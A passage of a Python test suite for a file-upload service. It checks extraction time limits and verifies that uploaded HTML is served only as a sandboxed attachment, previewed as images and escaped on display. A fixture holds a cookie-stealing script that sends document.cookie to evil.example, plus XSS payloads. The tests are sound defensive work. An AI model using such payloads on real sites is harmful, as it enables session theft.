    response = api.upload(CORPUS / filename, title=f"Real {filename}")
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    if row["flag"] in ("ENCRYPTED", "NO_TEXT"):
        assert version["searchable_text"] is False and version["text_error"]
    else:  # pdfium repairs some damaged files; those that it cannot say so
        assert version["searchable_text"] or version["text_error"]
    assert time.monotonic() - started < 30


# ---------------------------------------------------------------------------------------------
# Time and memory limits of the reader


def test_a_file_that_takes_too_long_is_kept_and_the_event_says_why(app, api):
    # Far below the reading time of a million-page tree (and the child's own start-up), so the
    # limit is hit however fast the machine is.
    app.config["EXTRACT_TIMEOUT_SECONDS"] = 0.2
    started = time.monotonic()
    response = upload_named(api, pdf_listing_one_page(1_000_000), "slow.pdf")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    assert version["searchable_text"] is False
    assert version["text_error"] == "Extraction took longer than 0.2 s."
    assert elapsed < 5
    assert upload_events(api)[0]["detail"]["text_error"] == "Extraction took longer than 0.2 s."


def test_the_reader_child_stops_at_its_time_limit_directly(tmp_path):
    path = tmp_path / "slow.pdf"
    path.write_bytes(pdf_listing_one_page(1_000_000))
    started = time.monotonic()
    reading = read_upload_in_child(path, "pdf", "Slow", timeout_seconds=0.2, memory_mb=1024)
    assert reading.extraction.error == "Extraction took longer than 0.2 s."
    assert time.monotonic() - started < 3


# ---------------------------------------------------------------------------------------------
# Active content


HOSTILE_PAGE = (
    b"<!DOCTYPE html><html><head><title>Offer</title>"
    b"<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
    b"<body><p>Pricing &lt;script&gt;alert(1)&lt;/script&gt; for partners</p>"
    b"<img src=x onerror=alert(2)></body></html>"
)


@pytest.mark.parametrize("route", ["/api/v1/assets/{id}/download", "/assets/{id}/download"])
@pytest.mark.parametrize("request_kind", ["whole", "range", "head", "not-modified"])
def test_html_is_only_ever_served_as_a_sandboxed_attachment(api, route, request_kind):
    response = upload_named(api, HOSTILE_PAGE, "offer.html", title="Hostile page")
    assert response.status_code == 201
    url = route.format(id=response.get_json()["id"])
    sha = response.get_json()["current_version"]["sha256"]
    if request_kind == "whole":
        served = api.get(url)
        assert served.status_code == 200 and served.data == HOSTILE_PAGE
    elif request_kind == "range":
        served = api.get(url, headers={"Range": "bytes=0-9"})
        assert served.status_code == 206
    elif request_kind == "head":
        served = api.client.head(url, headers=api.headers("rep"))
        served.close()
        assert served.status_code == 200 and not served.data
    else:
        served = api.get(url, headers={"If-None-Match": f'"{sha}"'})
        assert served.status_code == 304
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    policy = served.headers["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy


def test_previews_of_uploaded_files_are_only_jpeg_or_webp_images(app, api):
    page_id = upload_named(api, HOSTILE_PAGE, "offer.html", title="Hostile page").get_json()["id"]
    pdf_id = upload_named(api, make_pdf(["Pricing for partners"]), "offer.pdf").get_json()["id"]
    run_jobs(app)
    for url in (
        f"/api/v1/assets/{page_id}/thumbnail",
        f"/assets/{page_id}/thumbnail.jpg",
        f"/api/v1/assets/{pdf_id}/thumbnail",
        f"/assets/{pdf_id}/thumbnail.jpg",
        f"/assets/{pdf_id}/pages/1.webp",
        f"/api/v1/assets/{pdf_id}/pages/1",
    ):
        served = api.get(url)
        assert served.status_code == 200, url
        if url.endswith("thumbnail") or url.endswith(".jpg"):
            assert served.mimetype == "image/jpeg" and served.data.startswith(JPEG_MAGIC), url
        else:
            assert served.mimetype == "image/webp" and served.data[8:12] == b"WEBP", url
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        Image.open(io.BytesIO(served.data)).verify()  # a picture, nothing else


def test_the_asset_page_shows_extracted_markup_as_text(api):
    asset_id = upload_named(api, HOSTILE_PAGE, "offer.html", title="Hostile page").get_json()["id"]
    page = api.get(f"/assets/{asset_id}", role="rep")
    html = page.get_data(as_text=True)
    assert "Pricing &lt;script&gt;alert(1)&lt;/script&gt; for partners" in html
    assert "<script>alert(1)" not in html and "evil.example" not in html
    assert (
        "script-src" in page.headers["Content-Security-Policy"]
        or "default-src" in (page.headers["Content-Security-Policy"])
    )
